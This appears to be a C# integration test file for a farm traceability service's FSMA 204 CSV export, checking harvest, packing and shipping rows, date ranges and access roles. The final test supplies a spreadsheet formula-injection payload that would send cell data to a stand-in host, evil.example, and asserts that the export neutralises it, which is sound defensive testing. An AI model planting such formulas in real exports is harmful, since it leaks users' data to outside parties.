using System.Net;
using System.Text;
using CsvHelper;
using FluentAssertions;
using HaiDuong.Agri.IntegrationTests.Infrastructure;

namespace HaiDuong.Agri.IntegrationTests.Interop;

public sealed class Fsma204Tests(AgriApp app) : IClassFixture<AgriApp>
{
    private static readonly string[] Columns =
    [
        "Event Type", "Traceability Lot Code", "Product Description", "Quantity", "Unit of Measure", "Location Name",
        "Location Address", "Date", "TLC Source", "Reference Document Type", "Reference Document Number",
        "Immediate Previous Source", "Immediate Subsequent Recipient",
    ];

    private const string Cooperative = "HTX Vải thiều Thanh Hà";
    private const string CooperativeAddress = "commune 11059, province 31, Viet Nam";
    private const string Area = "Vườn vải đồi Thúy Lâm (VN-HDTH-0012)";
    private const string FarmAddress = "Thôn Thúy Lâm, Thanh Hà, commune 11059, province 31, Viet Nam (GPS 20.89, 106.43)";
    private const string Commodity = "vải thiều (Thanh Hà)";
    private const string Product = "Vải thiều \"Thanh Hà\" loại 1, Hộp 2 kg, loại 1";
    private const string NotPacked = "No traceability lot code yet: not packed into a lot";
    private static int scenarioNumber;

    /// <summary>
    /// Two harvests (20 May: 600 kg, 25 May: 400 kg) packed into two lots (26 May: 200 × 2 kg, 28 May: 150 × 2 kg), so the
    /// first lot takes 400 kg of the first harvest and the second 200 kg of the first and 100 kg of the second; 300 kg are
    /// not packed. The first lot is sold on a webhook partner: 3 units on 30 May, 2 units late on 2 June UTC (3 June in Việt Nam).
    /// </summary>
    private async Task<Scenario> ScenarioAsync()
    {
        var n = Interlocked.Increment(ref scenarioNumber);
        var farm = await app.FarmAsync();
        var batchId = await farm.Household.PlantedBatchAsync(farm.GrowingAreaId);
        await (await farm.Household.PostJson($"/api/v1/batches/{batchId}/harvests", new { harvestedOn = "2026-05-20", quantityKg = 600 })).Expect(HttpStatusCode.OK);
        await (await farm.Household.PostJson($"/api/v1/batches/{batchId}/harvests", new { harvestedOn = "2026-05-25", quantityKg = 400 })).Expect(HttpStatusCode.OK);
        var steps = (await (await farm.Household.GetAsync($"/api/v1/batches/{batchId}/timeline")).Expect(HttpStatusCode.OK))["steps"]!.AsArray();
        string Harvest(string date) => steps.Single(s => s!["type"]!.GetValue<string>() == "harvest" && s["date"]!.GetValue<string>() == date)!["stepId"]!.GetValue<string>();

        async Task<(string Id, string Code)> PackAsync(string code, string packedOn, int units)
        {
            var lot = await (await farm.Cooperative.PostJson("/api/v1/lots", new
            {
                batchId,
                gtin = "8931234567897",
                lotCode = code,
                packedOn,
                unitCount = units,
                netWeightGrams = 2000,
                packaging = "Hộp 2 kg, loại 1",
                productName = "Vải thiều \"Thanh Hà\" loại 1",
            })).Expect(HttpStatusCode.Created);
            return (lot.Id(), code);
        }

        var first = await PackAsync($"FS{n:0000}A", "2026-05-26", 200);
        var second = await PackAsync($"FS{n:0000}B", "2026-05-28", 150);
        await farm.LinkAsync("webhook");
        var listing = await (await new PackedLot(farm, first.Id, first.Code, 200).PublishAsync(20, "webhook")).Expect(HttpStatusCode.Created);
        var partner = app.As(await app.KeyAsync(new { role = "marketplace", marketplace = "webhook", label = "Postmart" }));
        foreach (var (order, quantity, at) in new[] { ($"PM-{n}-1", 3, "2026-05-30T03:00:00Z"), ($"PM-{n}-2", 2, "2026-06-02T20:00:00Z") })
        {
            await (await partner.PostJson("/api/v1/marketplace/orders", new
            {
                marketplace = "webhook",
                externalOrderId = order,
                listingId = listing.Id(),
                quantity,
                totalVnd = quantity * 45000,
                orderedAt = at,
            })).Expect(HttpStatusCode.Created);
        }

        return new Scenario(farm, first.Id, Tlc(first.Code), second.Id, Tlc(second.Code), Harvest("2026-05-20"), Harvest("2026-05-25"), $"PM-{n}-1", $"PM-{n}-2");
    }

    private sealed record Scenario(
        Farm Farm, string FirstLotId, string FirstTlc, string SecondLotId, string SecondTlc, string FirstHarvest, string SecondHarvest,
        string FirstOrder, string LateOrder)
    {
        public string Harvester => $"Nguyễn Văn An (0912345678), {Area}";

        public string[] Harvested(string tlc, string quantity, string date, string step) =>
            ["Harvesting", tlc, Commodity, quantity, "kg", Area, FarmAddress, date, tlc.Length == 0 ? NotPacked : Cooperative, "Harvest record", step, "", tlc.Length == 0 ? "" : Cooperative];

        public string[] Packed(string tlc, string units, string date, string lotId) =>
            ["Initial packing", tlc, Product, units, "units", Cooperative, CooperativeAddress, date, Cooperative, "Packing record", lotId, Harvester, ""];

        public string[] Shipped(string units, string date, string order) =>
            ["Shipping", FirstTlc, Product, units, "units", Cooperative, CooperativeAddress, date, Cooperative, "Marketplace order", order, "", $"Webhook partner order {order}"];
    }

    private static string Tlc(string lotCode) => $"(01)08931234567897(10){lotCode}";

    private static async Task<List<string[]>> ExportAsync(HttpClient client, string from, string to)
    {
        var response = await client.GetAsync($"/api/v1/exports/fsma204.csv?from={from}&to={to}");
        var bytes = await response.Content.ReadAsByteArrayAsync();
        response.StatusCode.Should().Be(HttpStatusCode.OK, Encoding.UTF8.GetString(bytes));
        response.Content.Headers.ContentType!.MediaType.Should().Be("text/csv");
        response.Content.Headers.ContentDisposition!.DispositionType.Should().Be("attachment");
        response.Content.Headers.ContentDisposition.FileName.Should().Be($"fsma204-{from}-{to}.csv");
        bytes.Take(3).Should().Equal(0xEF, 0xBB, 0xBF);
        var text = new UTF8Encoding(false, true).GetString(bytes, 3, bytes.Length - 3);
        text.Should().StartWith(string.Join(",", Columns) + "\r\n");

        using var reader = CsvReader.FromText(text, new CsvReaderOptions { Separator = ',' });
        var rows = new List<string[]>();
        while (reader.Read())
        {
            reader.Headers.Should().Equal(Columns);
            rows.Add([.. Columns.Select(reader.GetString)]);
        }

        rows.Select(r => r[7]).Should().BeInAscendingOrder(StringComparer.Ordinal, "rows are sorted by date");
        return rows;
    }

    private static string Show(IEnumerable<string[]> rows) => string.Join("\n", rows.Select(r => string.Join(" | ", r)));

    private static void ShouldBe(List<string[]> actual, params string[][] expected) =>
        Show(actual).Should().Be(Show(expected));

    [Fact]
    public async Task Harvest_packing_and_shipping_rows_link_each_harvest_to_the_lots_packed_from_it()
    {
        var s = await ScenarioAsync();
        var rows = await ExportAsync(s.Farm.Cooperative, "2026-05-01", "2026-05-31");
        ShouldBe(
            rows,
            s.Harvested(s.FirstTlc, "400", "2026-05-20", s.FirstHarvest),
            s.Harvested(s.SecondTlc, "200", "2026-05-20", s.FirstHarvest),
            s.Harvested("", "300", "2026-05-25", s.SecondHarvest),
            s.Harvested(s.SecondTlc, "100", "2026-05-25", s.SecondHarvest),
            s.Packed(s.FirstTlc, "200", "2026-05-26", s.FirstLotId),
            s.Packed(s.SecondTlc, "150", "2026-05-28", s.SecondLotId),
            s.Shipped("3", "2026-05-30", s.FirstOrder));
    }

    [Fact]
    public async Task Only_events_dated_in_the_range_are_listed_in_Viet_Nam_dates()
    {
        var s = await ScenarioAsync();
        ShouldBe(
            await ExportAsync(s.Farm.Cooperative, "2026-05-26", "2026-06-03"),
            s.Packed(s.FirstTlc, "200", "2026-05-26", s.FirstLotId),
            s.Packed(s.SecondTlc, "150", "2026-05-28", s.SecondLotId),
            s.Shipped("3", "2026-05-30", s.FirstOrder),
            s.Shipped("2", "2026-06-03", s.LateOrder));
        ShouldBe(await ExportAsync(s.Farm.Cooperative, "2026-06-03", "2026-06-03"), s.Shipped("2", "2026-06-03", s.LateOrder));
        ShouldBe(await ExportAsync(s.Farm.Cooperative, "2026-05-25", "2026-05-25"),
            s.Harvested("", "300", "2026-05-25", s.SecondHarvest),
            s.Harvested(s.SecondTlc, "100", "2026-05-25", s.SecondHarvest));
        (await ExportAsync(s.Farm.Cooperative, "2026-06-04", "2026-06-30")).Should().BeEmpty();
    }

    [Fact]
    public async Task A_cooperative_sees_only_its_members_rows_and_an_admin_sees_all()
    {
        var mine = await ScenarioAsync();
        var theirs = await ScenarioAsync();
        var rows = await ExportAsync(mine.Farm.Cooperative, "2026-05-01", "2026-06-30");
        rows.Should().HaveCount(8);
        rows.Should().NotContain(r => r[1] == theirs.FirstTlc || r[1] == theirs.SecondTlc || r[10] == theirs.LateOrder);

        var all = await ExportAsync(app.Admin(), "2026-05-01", "2026-06-30");
        foreach (var tlc in new[] { mine.FirstTlc, mine.SecondTlc, theirs.FirstTlc, theirs.SecondTlc })
        {
            all.Should().Contain(r => r[0] == "Initial packing" && r[1] == tlc);
        }

        all.Where(r => r[1] == theirs.FirstTlc || r[10] == theirs.SecondHarvest).Should().HaveCount(6);
    }

    [Fact]
    public async Task Households_auditors_and_marketplaces_may_not_export()
    {
        var farm = await app.FarmAsync();
        const string path = "/api/v1/exports/fsma204.csv?from=2026-05-01&to=2026-05-31";
        await (await farm.Household.GetAsync(path)).ExpectProblem(HttpStatusCode.Forbidden, "forbidden");
        var bodyId = (await (await app.Admin().PostJson("/api/v1/certification-bodies", new { name = "Tổ chức chứng nhận C" })).Expect(HttpStatusCode.Created)).Id();
        var auditor = app.As(await app.KeyAsync(new { role = "auditor", certificationBodyId = bodyId, label = "auditor" }));
        await (await auditor.GetAsync(path)).ExpectProblem(HttpStatusCode.Forbidden, "forbidden");
        var marketplace = app.As(await app.KeyAsync(new { role = "marketplace", marketplace = "webhook", label = "Postmart" }));
        await (await marketplace.GetAsync(path)).ExpectProblem(HttpStatusCode.Forbidden, "forbidden");
        (await app.Anonymous().GetAsync(path)).StatusCode.Should().Be(HttpStatusCode.Unauthorized);
    }

    [Fact]
    public async Task Missing_or_bad_dates_and_ranges_are_400_naming_the_field()
    {
        var admin = app.Admin();
        await (await admin.GetAsync("/api/v1/exports/fsma204.csv?to=2026-05-31")).ExpectFieldErrors("from");
        await (await admin.GetAsync("/api/v1/exports/fsma204.csv?from=2026-05-01")).ExpectFieldErrors("to");
        await (await admin.GetAsync("/api/v1/exports/fsma204.csv?from=2026-02-30&to=2026-05-31")).ExpectFieldErrors("from");
        await (await admin.GetAsync("/api/v1/exports/fsma204.csv?from=2026-05-01&to=31%2F05%2F2026")).ExpectFieldErrors("to");
        await (await admin.GetAsync("/api/v1/exports/fsma204.csv?from=2026-06-01&to=2026-05-31")).ExpectFieldErrors("from");
        await (await admin.GetAsync("/api/v1/exports/fsma204.csv?from=2025-01-01&to=2026-01-02")).ExpectFieldErrors("to");
        await (await admin.GetAsync("/api/v1/exports/fsma204.csv?from=9999-12-01&to=9999-12-31")).ExpectFieldErrors("from", "to");
        (await ExportAsync(admin, "2024-01-01", "2024-12-31")).Should().BeEmpty("366 days (a leap year) is the longest range");
    }

    [Fact]
    public async Task A_harvest_not_yet_packed_is_listed_and_text_a_spreadsheet_would_run_is_defused()
    {
        var farm = await app.FarmAsync();
        var batchId = await farm.Household.PlantedBatchAsync(farm.GrowingAreaId);
        await (await farm.Household.PostJson($"/api/v1/batches/{batchId}/harvests", new { harvestedOn = "2026-04-11", quantityKg = 120 })).Expect(HttpStatusCode.OK);
        var unpacked = await ExportAsync(farm.Cooperative, "2026-04-11", "2026-04-11");
        var harvest = unpacked.Should().ContainSingle().Subject;
        (harvest[0], harvest[1], harvest[3], harvest[8]).Should().Be(("Harvesting", "", "120", NotPacked));

        await (await farm.Cooperative.PostJson("/api/v1/lots", new
        {
            batchId,
            gtin = "8931234567897",
            packedOn = "2026-04-12",
            unitCount = 10,
            netWeightGrams = 1000,
            productName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            lotCode = "FX0001",
        })).Expect(HttpStatusCode.Created);
        var packing = (await ExportAsync(farm.Cooperative, "2026-04-12", "2026-04-12")).Should().ContainSingle().Subject;
        packing[2].Should().StartWith("'=HYPERLINK(");
    }
}
